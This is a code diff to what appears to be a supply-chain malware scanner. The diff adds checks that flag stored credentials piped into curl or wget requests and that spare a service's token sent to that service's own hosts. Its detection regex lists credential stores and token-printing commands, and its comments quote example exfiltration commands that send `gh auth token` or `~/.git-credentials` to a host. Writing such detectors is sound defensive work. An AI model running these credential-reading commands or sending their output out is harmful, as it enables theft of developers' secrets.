@@ -3,6 +3,7 @@ import { codeText } from '../code/code-text.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { LOADED_PROCESS_CALL, SINKS, WHOLE_ENVIRONMENT, jsSinkUnderAnotherName, readsSecretFromEnvironment, secretsGoToTheirOwnHosts } from '../code/sink-rules.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
+import { GIT_CONFIG_CREDENTIAL } from '../shell/git-credentials.js';
 import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
 import { pushAll } from '../../push-all.js';
 import { secretForItsOwnPlace, secretNamedForOtherPlace } from '../github-actions/secret-rules.js';
@@ -245,11 +246,59 @@ const CSHARP_DECODE = /\bConvert\.FromBase64String\b/;
 /**
  * Files that hold credentials, and the commands that print a stored credential (`gh auth token`,
  * `gcloud auth print-access-token`, `az account get-access-token`, macOS's keychain, `git
- * credential fill`): the s1ngularity payload of the Nx compromise (August 2025) took the GitHub
- * CLI's token so.
+ * credential fill`, git's configuration: GIT_CONFIG_CREDENTIAL): the s1ngularity payload of the Nx
+ * compromise (August 2025) took the GitHub CLI's token so.
  */
-const CREDENTIAL_FILE =
+const CREDENTIAL_FILE_NAMED =
   /\bgh\s+auth\s+token\b|["']gh["']\s{0,3},\s{0,3}\[?\s{0,3}["']auth["']\s{0,3},\s{0,3}["']token["']|\bgcloud\s+auth\s+print-(?:access|identity)-token\b|\baz\s+account\s+get-access-token\b|\bsecurity\s+(?:find-(?:generic|internet)-password|dump-keychain)\b|\bgit\s+credential\s+fill\b|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|\.npmrc\b|\.pypirc\b|\.netrc\b|\.git-credentials\b|\.docker\/config\.json|\.kube\/config|\.gnupg\b|\.cargo\/credentials|\.gem\/credentials|\.config\/gh\/hosts|\/etc\/(?:passwd|shadow)\b|\bwallet\.dat\b|Login Data|\.bash_history\b|\.m2\/settings\.xml|\.gradle\/gradle\.properties|Local State|\bkeychain\b/i;
+const CREDENTIAL_FILE = new RegExp(`${CREDENTIAL_FILE_NAMED.source}|${GIT_CONFIG_CREDENTIAL.source}`, 'i');
+
+/**
+ * The commands that print a service's token, each with the hosts of that service: the token used
+ * with its own service (`curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/…`)
+ * is how developer tools authenticate, not a theft.
+ */
+const TOKEN_COMMAND_SERVICES: readonly (readonly [RegExp, RegExp])[] = [
+  [/\bgh\s+auth\s+token\b/gi, /(?:^|\.)(?:github\.com|githubusercontent\.com|ghcr\.io)$/i],
+  [/\bgcloud\s+auth\s+print-(?:access|identity)-token\b/gi, /(?:^|\.)(?:googleapis\.com|google\.com|gcr\.io|pkg\.dev|run\.app)$/i],
+  [/\baz\s+account\s+get-access-token\b/gi, /(?:^|\.)(?:azure\.com|microsoft\.com|windows\.net|visualstudio\.com|azurecr\.io)$/i],
+];
+/** A literal URL's host. */
+const LINE_URL_HOST = /\bhttps?:\/\/([A-Za-z0-9.-]{1,253})/g;
+
+/**
+ * Whether the credential stores a line names are only service tokens printed by their CLI (`gh auth
+ * token`), and every literal URL of the line (one at least) is of that token's service.
+ */
+function tokenForItsOwnService(code: string): boolean {
+  let rest = code;
+  const services: RegExp[] = [];
+  for (const [command, service] of TOKEN_COMMAND_SERVICES) {
+    const next = rest.replace(command, ' ');
+    if (next !== rest) services.push(service);
+    rest = next;
+  }
+  if (services.length === 0 || CREDENTIAL_FILE.test(rest)) return false;
+  const hosts = [...code.matchAll(LINE_URL_HOST)].map((m) => m[1] ?? '');
+  return hosts.length > 0 && hosts.every((host) => services.some((service) => service.test(host)));
+}
+
+/** A command substitution (`$(…)`, a recipe's `$$(…)`, backquotes) whose command reads a credential store, on a line that makes a request (curl, wget). */
+const SUBSTITUTION = /\$\$?\(([^()\n]{1,200})\)|`([^`\n]{1,200})`/g;
+const REQUEST_COMMAND = /\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|http|https)\b/i;
+
+/**
+ * Whether a command line puts a stored credential into a request (`curl "https://h/?t=$(gh auth
+ * token)"`, `curl -H "X-T: $(cat ~/.git-credentials)" https://h`): a GET carries its URL and headers
+ * to the host as surely as a POST's body. Not a service's token given to that service.
+ */
+export function credentialSubstitutedIntoRequest(code: string): boolean {
+  if (!REQUEST_COMMAND.test(code) || !code.includes('://')) return false;
+  for (const m of code.matchAll(SUBSTITUTION)) {
+    if (CREDENTIAL_FILE.test(m[1] ?? m[2] ?? '')) return !tokenForItsOwnService(code);
+  }
+  return false;
+}
 
 
 /** The credential files of package registries: npm's, PyPI's, RubyGems', Cargo's. */
@@ -278,7 +327,7 @@ export function writesRegistryCredentialFile(code: string): boolean {
 
 /** Whether a line names a credential store or prints a stored credential (CREDENTIAL_FILE: `~/.npmrc`, `.aws/credentials`, `gh auth token`). */
 export function readsCredentialStore(text: string): boolean {
-  return CREDENTIAL_FILE.test(text);
+  return CREDENTIAL_FILE.test(text) && !tokenForItsOwnService(text);
 }
 
 /** Sending data out. */
@@ -622,7 +671,7 @@ function usesName(code: string, masked: string, name: string): boolean {
  * sent to its own service's host (`GITHUB_TOKEN` to api.github.com), nor a line that gives the
  * request a credential (a header, `-u`, a password option). At most 50 names.
  */
-function secretUrlsAcrossLines(lines: readonly SourceLine[], codeLanguage: CodeLanguage): Set<number> {
+function secretUrlsAcrossLines(lines: readonly SourceLine[], codeLanguage: CodeLanguage, requested: Set<number>): Set<number> {
   const secrets = new Map<string, string[]>();
   const urls = new Set<string>();
   const out = new Set<number>();
@@ -637,7 +686,10 @@ function secretUrlsAcrossLines(lines: readonly SourceLine[], codeLanguage: CodeL
     const hosts = ranges.flatMap(([start, end]) => [...code.slice(start, end).matchAll(URL_START)].map((m) => (m[1] ?? '').toLowerCase()));
     const sentHeld = held.some((name) => ranges.some(([start, end]) => usesName(code.slice(start, end), masked.slice(start, end), name)) && !(secrets.get(name) ?? []).some((env) => secretForItsOwnPlace(env, hosts)));
     const urlWithSecret = sentHeld || (ranges.length > 0 && secretInRequestUrl(code, false) && !secretsGoToTheirOwnHosts(code));
-    if (!credential && (sentHeld || [...urls].some((name) => usesName(code, masked, name)))) out.add(line);
+    const urlNames = [...urls].filter((name) => usesName(code, masked, name));
+    if (!credential && (sentHeld || urlNames.length > 0)) out.add(line);
+    // A request given such a URL by its name (`fetch(url)`, `http.Get(u)`, `urlopen(url)`): the line fetches, whatever the call.
+    if (!credential && urlNames.some((name) => requestOf(name).test(masked))) requested.add(line);
     if (assigned === null || secrets.size + urls.size >= 50) continue;
     const name = assigned[1] ?? '';
     const rest = code.slice(assigned[0].length);
@@ -653,13 +705,21 @@ function secretUrlsAcrossLines(lines: readonly SourceLine[], codeLanguage: CodeL
   return out;
 }
 
+/** A request call given `name` as its URL: `fetch(url`, `urlopen(url`, `http.Get(u`, `axios.get(url`, `got(url`, `http.NewRequest("GET", u`. */
+function requestOf(name: string): RegExp {
+  return new RegExp(
+    String.raw`(?:\b(?:fetch|urlopen|got|axios|needle|request|Invoke-WebRequest)|\.(?:get|post|put|patch|request|Get|Post|Head|urlopen|openConnection|GET|POST))\s*\(\s*(?:ctx\s*,\s*)?(?:["'][A-Z]{3,7}["']\s*,\s*|http\.Method\w{1,10}\s*,\s*)?${escapeRegExp(name)}(?![\w.$])`,
+  );
+}
+
 /** Every behavior of the given lines, in line order, each kind once per line. */
 export function readBehaviors(lines: readonly SourceLine[], language: BuildLanguage, options: ReadOptions = {}): Behavior[] {
   const found: Behavior[] = [];
   const codeLanguage = codeLanguageOf(language);
   const isProgram = PROGRAM_LANGUAGES.has(language);
   const decoded = isProgram ? decodedNames(lines, codeLanguage) : new Set<string>();
-  const heldSecretSent = isProgram && codeLanguage !== null ? secretUrlsAcrossLines(lines, codeLanguage) : new Set<number>();
+  const requestedSecretUrl = new Set<number>();
+  const heldSecretSent = isProgram && codeLanguage !== null ? secretUrlsAcrossLines(lines, codeLanguage, requestedSecretUrl) : new Set<number>();
   for (const { line, text } of lines) {
     const { code: read, masked, isComment } = codeText(text, codeLanguage);
     if (isComment || read.trim() === '') continue;
@@ -667,7 +727,7 @@ export function readBehaviors(lines: readonly SourceLine[], language: BuildLangu
     const kinds = new Set<BehaviorKind>();
     const piped = findPipeToShell(code).length > 0;
     const runs = piped || EXECUTE.any?.test(code) === true || EXECUTE[language]?.test(code) === true || processSink(language, code);
-    if (piped || matches(DOWNLOAD, language, code, runs)) kinds.add('download');
+    if (piped || matches(DOWNLOAD, language, code, runs) || requestedSecretUrl.has(line)) kinds.add('download');
     if (runs) kinds.add('execute');
     const shell = SHELL_PROGRAM.exec(code);
     const xml = language === 'xml' ? XML_PROGRAM.exec(code) : null;
@@ -677,7 +737,7 @@ export function readBehaviors(lines: readonly SourceLine[], language: BuildLangu
     const loaded = RUNDLL.exec(code)?.[1];
     if (loaded !== undefined && !loaded.includes('$') && !DLL_EXTENSIONS.test(loaded)) kinds.add('disguised-binary');
     if (loadsNativeCode(code)) kinds.add('native-load');
-    if (CREDENTIAL_FILE.test(code)) kinds.add(writesRegistryCredentialFile(code) ? 'credential-file-write' : 'credential-file');
+    if (readsCredentialStore(code)) kinds.add(writesRegistryCredentialFile(code) ? 'credential-file-write' : 'credential-file');
     // A token sent only to the service its name names (a release upload with GITHUB_TOKEN) is that service's credential in use, not a theft.
     if (readsSecretFromEnvironment(code) && !secretsGoToTheirOwnHosts(code) && !(options.dockerfile === true && DOCKERFILE_DECLARATION.test(code))) kinds.add('credential-env');
     if (matches(WHOLE_ENVIRONMENT, language, code, runs) || (language === 'csharp' && CSHARP_WHOLE_ENVIRONMENT.test(code))) kinds.add('environment');
